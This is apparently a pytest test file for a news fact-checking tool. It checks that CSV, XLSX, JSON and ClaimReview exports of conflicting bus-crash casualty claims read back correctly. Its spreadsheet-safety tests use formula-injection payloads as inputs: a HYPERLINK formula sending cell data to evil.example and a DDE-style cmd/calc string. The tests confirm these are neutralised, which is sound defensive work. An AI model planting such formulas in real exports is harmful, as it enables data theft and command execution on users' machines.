"""Exports read back: CSV and XLSX through pandas, JSON, and ClaimReview JSON-LD against its JSON Schema."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path
from typing import Any

import jsonschema
import openpyxl
import pandas as pd
import pytest
from test_events import crash_event
from test_scan import BAY_HERALD, CAPITAL_DAILY, COAST_FM, CRASH, PELLOW_POST

from verifier.core.errors import InputError, NotFoundError
from verifier.core.records import Event
from verifier.services.export import (
    AUTHOR_ENV,
    FORMATS,
    PUBLISHER_ENV,
    Byline,
    FlaggedPair,
    claim_reviews,
    export,
    export_bytes,
    flagged_pairs,
    found_figures,
    spreadsheet_cell,
    unreviewed_left_out,
)
from verifier.services.scan import review, scan_new
from verifier.services.workspace import Workspace

SCHEMA = json.loads((Path(__file__).parent / "schemas" / "claimreview.schema.json").read_text("utf-8"))


@pytest.fixture(autouse=True)
def unsigned(monkeypatch: pytest.MonkeyPatch) -> None:
    """No byline from the machine running the tests: each test that wants one sets it."""
    monkeypatch.delenv(PUBLISHER_ENV, raising=False)
    monkeypatch.delenv(AUTHOR_ENV, raising=False)


@pytest.fixture
def flagged(workspace: Workspace) -> Workspace:
    """The bus-crash articles scanned: two flagged pairs (Capital Daily's 22 against 9 twice)."""
    workspace.ingest_articles(CRASH)
    scan_new(workspace)
    assert len(flagged_pairs(workspace)) == 2
    return workspace


PAIR_COLUMNS = {
    "id", "relation", "score", "explanation", "review_status", "note", "reviewed_at",
    "a_text", "a_source", "a_date", "a_title", "a_url", "a_article_id", "a_claim_id", "a_attribution",
    "a_place",
    "b_text", "b_source", "b_date", "b_title", "b_url", "b_article_id", "b_claim_id", "b_attribution",
    "b_place",
}  # fmt: skip


def test_csv_reads_back_through_pandas(flagged: Workspace) -> None:
    frame = pd.read_csv(io.BytesIO(export_bytes(flagged, "csv")))
    assert set(frame.columns) == PAIR_COLUMNS
    assert len(frame) == 2
    assert set(frame["a_source"]) | set(frame["b_source"]) == {"Bay Herald", "Capital Daily", "Coast FM"}
    assert set(frame["review_status"]) == {"unreviewed"}
    attributions = dict(zip(frame["a_source"], frame["a_attribution"], strict=True))
    attributions.update(zip(frame["b_source"], frame["b_attribution"], strict=True))
    assert attributions == {
        "Bay Herald": "police said", "Capital Daily": "a regional official said", "Coast FM": "police said"
    }  # fmt: skip


def test_xlsx_reads_back_through_pandas(flagged: Workspace, tmp_path: Path) -> None:
    out = tmp_path / "pairs.xlsx"
    export(flagged, "xlsx", out)
    frame = pd.read_excel(out, sheet_name="contradictions")
    assert set(frame.columns) == PAIR_COLUMNS
    assert sorted(frame["id"]) == sorted(p.id for p in flagged_pairs(flagged))


def test_json_reads_back(flagged: Workspace) -> None:
    buf = io.BytesIO()
    export(flagged, "json", buf)
    rows = json.loads(buf.getvalue())
    assert [r["id"] for r in rows] == [p.id for p in flagged_pairs(flagged)]
    assert all(r["relation"] == "conflict" for r in rows)


def pair_of(ws: Workspace, source: str) -> FlaggedPair:
    """The flagged pair with a claim from `source` (Bay Herald and Coast FM each have one)."""
    [pair] = [p for p in flagged_pairs(ws) if source in (p.a.source, p.b.source)]
    return pair


def test_claimreview_holds_only_confirmed_pairs_and_follows_review_decisions(flagged: Workspace) -> None:
    confirmed, dismissed = pair_of(flagged, "Bay Herald"), pair_of(flagged, "Coast FM")
    review(flagged, confirmed.id, "confirm", note="the county police confirmed nine dead")
    review(flagged, dismissed.id, "dismiss")
    for include_unreviewed in (False, True):  # nothing is left unreviewed: the flag changes nothing
        reviews = json.loads(export_bytes(flagged, "claimreview", include_unreviewed=include_unreviewed))
        jsonschema.validate(reviews, SCHEMA)
        assert [r["identifier"] for r in reviews] == [confirmed.id]  # the dismissed pair is never published
    [cr] = reviews
    assert cr["@type"] == "ClaimReview"
    assert cr["claimReviewed"] == confirmed.a.text
    assert cr["itemReviewed"]["author"] == {"@type": "Organization", "name": confirmed.a.source}
    assert cr["itemReviewed"]["datePublished"] == "2021-06-07"
    assert cr["reviewRating"]["alternateName"] == "Outlets disagree: 9 vs 22 passengers killed"
    assert cr["reviewRating"]["ratingExplanation"] == confirmed.contradiction.explanation
    assert cr["author"] == {"@type": "Organization", "name": "verifier"} and "publisher" not in cr
    assert "the county police confirmed nine dead" in cr["reviewBody"]


def test_claimreview_of_a_workspace_with_unreviewed_flags_holds_none_of_them(flagged: Workspace) -> None:
    data = export_bytes(flagged, "claimreview")
    jsonschema.validate(json.loads(data), SCHEMA)
    assert json.loads(data) == []
    assert unreviewed_left_out(flagged) == 2


def test_claimreview_with_unreviewed_flags_says_they_are_not_reviewed(flagged: Workspace) -> None:
    reviews = claim_reviews(flagged, include_unreviewed=True)
    jsonschema.validate(reviews, SCHEMA)
    assert sorted(r["identifier"] for r in reviews) == sorted(p.id for p in flagged_pairs(flagged))
    assert {r["reviewRating"]["alternateName"] for r in reviews} <= {
        "Not yet reviewed: outlets may disagree: 9 vs 22 passengers killed",
        "Not yet reviewed: outlets may disagree: 22 vs 9 passengers killed",
    }
    with_url = [r for r in reviews if "url" in r["itemReviewed"]["appearance"][0]]
    assert with_url and all(
        a["url"].startswith("https://test.example/")
        for r in with_url
        for a in r["itemReviewed"]["appearance"]
    )


def test_claimreview_is_signed_from_the_environment_or_a_byline(
    flagged: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(PUBLISHER_ENV, "Marrow Bay Fact Desk")
    monkeypatch.setenv(AUTHOR_ENV, "Ada Reviewer")
    [cr, _] = claim_reviews(flagged, include_unreviewed=True)
    jsonschema.validate([cr], SCHEMA)
    assert cr["author"] == {"@type": "Person", "name": "Ada Reviewer"}
    assert cr["publisher"] == {"@type": "Organization", "name": "Marrow Bay Fact Desk"}
    [given, _] = claim_reviews(flagged, include_unreviewed=True, byline=Byline(publisher="Coast Checks"))
    assert given["author"] == given["publisher"] == {"@type": "Organization", "name": "Coast Checks"}


def test_claimreview_scoped_to_one_event(workspace: Workspace) -> None:
    crash = crash_event(workspace)
    scan_new(workspace)
    pellow = Event(
        "pellow",
        "Pellow library budget",
        tuple(c.id for c in workspace.store.claims_of_article(PELLOW_POST.id)),
    )
    workspace.store.replace_events([crash, pellow])
    in_crash = claim_reviews(workspace, include_unreviewed=True, event_id="crash")
    assert sorted(r["identifier"] for r in in_crash) == sorted(p.id for p in flagged_pairs(workspace))
    assert claim_reviews(workspace, include_unreviewed=True, event_id="pellow") == []
    assert unreviewed_left_out(workspace, "crash") == 2 and unreviewed_left_out(workspace, "pellow") == 0
    with pytest.raises(NotFoundError, match="no event with id 'nope'"):
        export_bytes(workspace, "claimreview", event_id="nope")


@pytest.mark.parametrize(
    ("explanation", "found"),
    [
        ("Figures conflict: 9 passengers killed vs 22 passengers killed", "9 vs 22 passengers killed"),
        ("Figures conflict: 13 people killed vs 27 IS fighters killed (at least)",
         "13 people vs at least 27 IS fighters killed"),
        ("Figures conflict: 40 people injured (about) vs 12 people injured (more than)",
         "about 40 vs more than 12 people injured"),
        ("Figures conflict: no one killed vs 3 people killed", "no one vs 3 people killed"),
        ("Figures conflict: 30 people missing (about) vs 11 people missing (range)",
         "about 30 vs around 11 people missing"),
        ("Figures conflict: 5 houses damaged vs 50 homes destroyed",
         "5 houses damaged vs 50 homes destroyed"),
        ("The reports disagree", "The reports disagree"),  # another wording is kept whole
        ("", ""),
    ],
)  # fmt: skip
def test_found_figures_says_what_was_found(explanation: str, found: str) -> None:
    assert found_figures(explanation) == found


def test_the_schema_rejects_a_review_without_its_claim(flagged: Workspace) -> None:
    [broken, *_] = claim_reviews(flagged, include_unreviewed=True)
    del broken["claimReviewed"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate([broken], SCHEMA)


def read_back(data: bytes, fmt: str) -> list[dict[str, Any]]:
    """The rows of an export as a spreadsheet user or a script would read them ("" for an empty cell)."""
    if fmt == "csv":
        rows: list[dict[str, Any]] = csv_rows(data)
    elif fmt == "xlsx":
        rows = xlsx_rows(data)[0]
    else:
        rows = json.loads(data)
    return [{k: "" if v is None else v for k, v in r.items()} for r in rows]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_event_table_exports(workspace: Workspace, fmt: str) -> None:
    event = crash_event(workspace)
    data = export_bytes(workspace, fmt, event_id=event.id)
    if fmt == "csv":
        frame = pd.read_csv(io.BytesIO(data))
    elif fmt == "xlsx":
        frame = pd.read_excel(io.BytesIO(data), sheet_name="event")
    else:
        frame = pd.DataFrame(json.loads(data))
    assert {"measure", "group", "source", "figure", "date", "attribution", "conflict"} <= set(frame.columns)
    killed = frame[frame["measure"] == "killed"]
    assert set(killed["figure"]) == {"9", "Twenty-two", "Nine"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_every_table_row_carries_its_provenance(workspace: Workspace, fmt: str) -> None:
    rows = read_back(export_bytes(workspace, fmt, event_id=crash_event(workspace).id), fmt)
    assert rows and all({"source", "date", "title", "url", "attribution"} <= set(r) for r in rows)
    killed = {(r["source"], r["title"], r["url"], r["attribution"]) for r in rows if r["measure"] == "killed"}
    assert killed == {
        ("Bay Herald", BAY_HERALD.title, BAY_HERALD.url, "police said"),
        ("Capital Daily", CAPITAL_DAILY.title, CAPITAL_DAILY.url, "a regional official said"),
        ("Coast FM", COAST_FM.title, "", "police said"),  # an article without a URL says so
    }
    assert {r["date"] for r in rows} == {"2021-06-07"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_every_row_carries_its_review_status(workspace: Workspace, fmt: str) -> None:
    event = crash_event(workspace)
    scan_new(workspace)
    review(workspace, pair_of(workspace, "Bay Herald").id, "confirm")
    review(workspace, pair_of(workspace, "Coast FM").id, "dismiss")
    table = read_back(export_bytes(workspace, fmt, event_id=event.id), fmt)
    status = {(r["source"], r["measure"]): r["review_status"] for r in table}
    assert status[("Bay Herald", "killed")] == "confirmed"
    assert status[("Capital Daily", "killed")] == "confirmed"  # confirmed with one, dismissed with the other
    assert status[("Coast FM", "killed")] == "dismissed"
    assert status[("Bay Herald", "wounded")] == "not flagged"
    review(workspace, pair_of(workspace, "Bay Herald").id, "reopen")
    pairs = read_back(export_bytes(workspace, fmt), fmt)
    assert {r["review_status"] for r in pairs} == {"unreviewed", "dismissed"}


def test_empty_exports_still_have_a_header(workspace: Workspace) -> None:
    assert export_bytes(workspace, "csv") == b"id\r\n"
    assert json.loads(export_bytes(workspace, "json")) == []
    assert json.loads(export_bytes(workspace, "claimreview")) == []


def test_unknown_format_is_refused(flagged: Workspace) -> None:
    with pytest.raises(InputError, match="use one of csv, xlsx, json, claimreview"):
        export_bytes(flagged, "pdf")
    assert FORMATS == ("csv", "xlsx", "json", "claimreview")


# -- spreadsheet safety ---------------------------------------------------------------------------------

# An outlet that would open a link carrying another cell's content, a title a spreadsheet would sum, and a
# reviewer's note it would run: each must reach the sheet as the text it is.
LINK_FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Open source")'
SUM_TITLE = "@SUM(1+1)"
COMMAND_NOTE = "+cmd"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+cmd", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("-10", "-10"),  # a negative figure is a number, not a formula
        ("+3", "+3"),
        ("1,200.5", "1,200.5"),
        ("Twenty-two", "Twenty-two"),
        ("a sum = 4", "a sum = 4"),  # only the first character makes a formula
        ("", ""),
        (22, 22),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_spreadsheet_cell(value: Any, cell: Any) -> None:
    assert spreadsheet_cell(value) == cell


@pytest.fixture
def hostile(workspace: Workspace) -> Workspace:
    """The bus-crash articles with a formula for an outlet and a title, scanned; every pair noted `+cmd`."""
    articles = [
        dataclasses.replace(a, source=LINK_FORMULA, title=SUM_TITLE) if a.id == CAPITAL_DAILY.id else a
        for a in CRASH
    ]
    workspace.ingest_articles(articles)
    scan_new(workspace)
    for pair in flagged_pairs(workspace):
        review(workspace, pair.id, "confirm", note=COMMAND_NOTE)
    return workspace


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def xlsx_rows(data: bytes) -> tuple[list[dict[str, Any]], set[str]]:
    """The rows of the first sheet, and the data types of every cell ('f' would be a live formula)."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = list(sheet.iter_rows())
    header = [c.value for c in cells[0]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in cells[1:]]
    return rows, {c.data_type for row in cells for c in row}


def test_formulas_reach_the_csv_as_text(hostile: Workspace) -> None:
    rows = csv_rows(export_bytes(hostile, "csv"))
    assert len(rows) == 2
    for row in rows:
        side = "a" if row["a_article_id"] == CAPITAL_DAILY.id else "b"
        assert row[f"{side}_source"] == "'" + LINK_FORMULA
        assert row[f"{side}_title"] == "'" + SUM_TITLE
        assert row["note"] == "'" + COMMAND_NOTE
        assert float(row["score"]) > 0  # numbers stay numbers
    assert not [v for row in rows for v in row.values() if v.startswith(("=", "+", "-", "@"))]


def test_formulas_reach_the_xlsx_as_text(hostile: Workspace) -> None:
    rows, types = xlsx_rows(export_bytes(hostile, "xlsx"))
    assert "f" not in types  # no cell is a formula
    sources = {r["a_source"] for r in rows} | {r["b_source"] for r in rows}
    titles = {r["a_title"] for r in rows} | {r["b_title"] for r in rows}
    assert "'" + LINK_FORMULA in sources and "'" + SUM_TITLE in titles
    assert {r["note"] for r in rows} == {"'" + COMMAND_NOTE}
    assert all(isinstance(r["score"], float) for r in rows)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_event_table_neutralises_the_outlet_but_not_the_figures(workspace: Workspace, fmt: str) -> None:
    workspace.ingest_articles([dataclasses.replace(CAPITAL_DAILY, source=LINK_FORMULA)])
    event = crash_event(workspace)
    data = export_bytes(workspace, fmt, event_id=event.id)
    rows = csv_rows(data) if fmt == "csv" else xlsx_rows(data)[0]
    killed = {(r["source"], r["figure"]) for r in rows if r["measure"] == "killed"}
    assert ("'" + LINK_FORMULA, "Twenty-two") in killed
    assert ("Bay Herald", "9") in killed


def test_xlsx_export_of_text_with_control_characters(workspace: Workspace) -> None:
    # A terminal escape and a NUL in an article: XML cannot hold them, and one must not hide a formula.
    noisy = dataclasses.replace(BAY_HERALD, source="\x00=1+2", title="Bay \x1b[31mHerald")
    workspace.ingest_articles([noisy, *CRASH[1:]])
    scan_new(workspace)
    rows, types = xlsx_rows(export_bytes(workspace, "xlsx"))
    assert "f" not in types
    assert "'=1+2" in {r["a_source"] for r in rows} | {r["b_source"] for r in rows}
    assert "Bay [31mHerald" in {r["a_title"] for r in rows} | {r["b_title"] for r in rows}
